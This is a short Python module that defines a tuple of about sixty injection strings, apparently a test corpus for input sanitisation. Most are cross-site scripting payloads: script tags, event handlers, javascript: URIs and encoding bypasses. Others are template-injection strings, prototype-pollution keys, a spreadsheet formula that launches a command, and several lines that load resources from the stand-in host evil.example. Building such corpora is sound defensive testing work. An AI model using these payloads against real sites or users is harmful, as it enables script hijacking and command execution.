"""Words that become something else where a page, a script, a log or a spreadsheet takes them for more than text."""

from typing import Final

MARKUP: Final = tuple(
    """
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert`1`>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</script><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<body onload=alert(1)>
<iframe src=javascript:alert(1)>
<iframe srcdoc="<script>alert(1)</script>">
<a href=javascript:alert(1)>x</a>
<a href="java\tscript:alert(1)">x</a>
<math><mi xlink:href="javascript:alert(1)">
<object data=javascript:alert(1)>
<embed src=javascript:alert(1)>
<form action=javascript:alert(1)><button>x
<button formaction=javascript:alert(1)>x
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<style>@import'//evil.example'</style>
<link rel=stylesheet href=//evil.example>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href=//evil.example/>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<table background=javascript:alert(1)>
<div style="background:url(javascript:alert(1))">
<div style=width:expression(alert(1))>
<x onclick=alert(1)>click
<x contenteditable onblur=alert(1)>
<svg><animate onbegin=alert(1) attributeName=x>
<svg><script href=data:,alert(1) />
<svg><use href="data:image/svg+xml,<svg onload=alert(1)>">
<img src=x:x onerror=alert(1)//
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<IMG SRC=&#106;avascript:alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)
%3Cscript%3Ealert(1)%3C/script%3E
\\u003cscript\\u003ealert(1)
{{constructor.constructor('alert(1)')()}}
${alert(1)}
#{alert(1)}
<%= alert(1) %>
javascript:alert(1)
data:text/html,<script>alert(1)</script>
' onmouseover='alert(1)
" onmouseover="alert(1)
` onmouseover=`alert(1)
__proto__
constructor
toString
=cmd|'/c calc'!A1
""".strip().splitlines()
)
"""Sixty and more: each of the ways that ended in somebody's page being run by somebody else."""
